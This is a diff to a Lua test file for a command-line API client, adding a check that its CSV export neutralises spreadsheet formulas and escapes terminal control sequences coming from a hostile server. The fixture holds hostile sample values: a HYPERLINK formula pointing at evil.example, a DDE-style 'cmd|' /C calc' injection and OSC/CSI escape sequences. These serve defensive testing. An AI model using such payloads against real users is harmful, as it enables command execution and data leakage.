@@ -1,6 +1,6 @@
 -- The `hypatos` command (bin/hypatos) run as a subprocess against the local server: every
 -- command, every format, the exit statuses 0/1/2/64, no secret on stderr, --debug lines, no
--- control character from a hostile server on the terminal,
+-- control character from a hostile server on the terminal, CSV formulas neutralised,
 -- downloads to a safe name, progress only on a terminal; `hypatos serve` started and stopped
 -- by signal; hypatos.testing; and the README's busted example.
 local helpers = require "spec.helpers"
@@ -470,7 +470,7 @@ describe("hypatos command", function()
     end)
   end)
 
-  describe("control characters from the server (issue 16.3)", function()
+  describe("control characters and formulas from the server (issue 16.3, 16.4)", function()
     local OSC, CSI = "\27]0;pwned\7", "\194\155" -- an OSC title sequence; U+009B, the one-byte CSI
     local HOSTILE = { id = "u-1", name = OSC .. " J\195\188rgen " .. CSI .. "2J", ["\27[31mrole"] = "x\127y",
       bad = "caf\233" }
@@ -527,6 +527,42 @@ describe("hypatos command", function()
         local v = hypatos.json.decode(out)
         assert.equal(HOSTILE.name, (v[1] or v).name)
       end
+    end)
+
+    it("csv: formulas neutralised, controls escaped, numbers left alone; --csv-raw writes cells as received", function()
+      local row = { id = "u-1", formula = '=HYPERLINK("http://evil.example/?x","click")', at = "@SUM(A1:A9)",
+        plus = "+49 30 1234", minus = "-1+cmd|' /C calc'!A0", tab = "\tx", cr = "\rx", amount = -12.5,
+        text_amount = "-12.50", big = -1e300, address = "Hauptstr. 1\r\nBerlin", ["=col"] = OSC, c1 = CSI .. "31m" }
+      local function queue()
+        srv:fault({ kind = "status", status = 200, method = "GET", path = "/v2/users",
+          body = { data = { row }, totalCount = 1 } })
+      end
+      queue()
+      local code, out, err = run({ "users", "list", "--format", "csv" })
+      assert.equal(0, code, err)
+      clean(out, "\t\r\n", "csv") -- TAB, CR and LF: inside cells, as RFC 4180 allows
+      assert.equal("id,'=col,address,amount,at,big,c1,cr,formula,minus,plus,tab,text_amount\r\n"
+        .. 'u-1,\\x1B]0;pwned\\x07,"Hauptstr. 1\r\nBerlin",-12.5,\'@SUM(A1:A9),-1e+300,\\u009B31m,"\'\rx",'
+        .. '"\'=HYPERLINK(""http://evil.example/?x"",""click"")",\'-1+cmd|\' /C calc\'!A0,\'+49 30 1234,\'\tx,'
+        .. "-12.50\r\n", out)
+      queue()
+      code, out, err = run({ "users", "list", "--format", "csv", "--csv-raw" })
+      assert.equal(0, code, err)
+      assert.equal("id,=col,address,amount,at,big,c1,cr,formula,minus,plus,tab,text_amount\r\n"
+        .. "u-1," .. OSC .. ',"Hauptstr. 1\r\nBerlin",-12.5,@SUM(A1:A9),-1e+300,' .. CSI .. '31m,"\rx",'
+        .. '"=HYPERLINK(""http://evil.example/?x"",""click"")",-1+cmd|\' /C calc\'!A0,+49 30 1234,\tx,'
+        .. "-12.50\r\n", out)
+      -- a single object too
+      srv:fault({ kind = "status", status = 200, method = "GET", path = "/v2/users/u-1", body = row })
+      code, out, err = run({ "users", "get", "u-1", "--format", "csv" })
+      assert.equal(0, code, err)
+      assert.matches("\r\nu%-1,\\x1B%]0;pwned\\x07,", out)
+      assert.matches(",\"'=HYPERLINK(\"\"http", out, 1, true)
+      -- --csv-raw belongs to --format csv
+      code, out, err = run({ "users", "list", "--csv-raw", "--format", "jsonl" })
+      assert.equal(64, code)
+      assert.equal("", out)
+      assert.equal("hypatos: --csv-raw goes with --format csv (see hypatos --help)\n", err)
     end)
 
     it("error lines: a problem's title and detail escaped", function()
